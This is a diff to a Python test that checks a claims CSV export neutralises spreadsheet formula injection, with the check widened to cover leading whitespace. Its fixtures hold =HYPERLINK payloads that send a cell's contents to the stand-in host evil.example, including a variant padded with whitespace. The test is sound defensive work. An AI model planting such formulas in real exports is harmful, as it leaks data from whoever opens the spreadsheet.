@@ -512,10 +512,14 @@ def test_the_csv_export_never_hands_a_spreadsheet_a_formula(api):
     ClaimFactory(text='=HYPERLINK("https://evil.example/?"&A1,"Click") officials said so.')
     ClaimFactory(text="-5 degrees, the forecasters said.", speaker="@weather")
     ClaimFactory(text="+1 more, he said.", speaker="\tTab")
+    # An import that trims spaces would see a formula.
+    ClaimFactory(text=' \n=HYPERLINK("https://evil.example/") he said.', speaker=" @x")
     response = api.get("/api/v1/claims/export.csv?ordering=id")
     rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
     cells = [cell for row in rows[1:] for cell in row if cell]
-    assert not [c for c in cells if c[0] in "=+-@\t\r" and not c.lstrip("-").isdigit()]
+    assert not [
+        c for c in cells if c.lstrip()[:1] in tuple("=+-@\t\r") and not c.lstrip("-").isdigit()
+    ]
     texts = sorted(row[6] for row in rows[1:])
     assert any(text.startswith("'=HYPERLINK(") for text in texts)
     assert "'-5 degrees, the forecasters said." in texts  # kept, readable, but inert
